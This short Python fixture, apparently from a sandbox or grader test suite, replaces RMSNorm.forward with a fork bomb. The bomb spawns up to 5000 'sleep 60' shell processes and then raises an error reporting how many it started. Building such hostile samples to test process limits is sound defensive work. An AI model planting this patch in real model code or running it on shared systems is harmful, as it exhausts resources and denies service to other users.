# Hostile: RMSNorm.forward forks until the system refuses, then reports how far it got.
import functools as _functools
import os as _os


def _bomb(limit=5000):
    count = 0
    try:
        while count < limit:
            if _os.fork() == 0:
                try:
                    _os.execvp("sh", ["sh", "-c", "sleep 60; :", HOSTILE["marker"]])
                finally:
                    _os._exit(0)
            count += 1
    except OSError as error:
        return count, error
    return count, None


@_functools.wraps(RMSNorm.forward)
def _bombing_forward(self, x):
    count, error = _bomb()
    raise RuntimeError(f"FORK-BOMB started {count} processes, then: {error}")


RMSNorm.forward = _bombing_forward
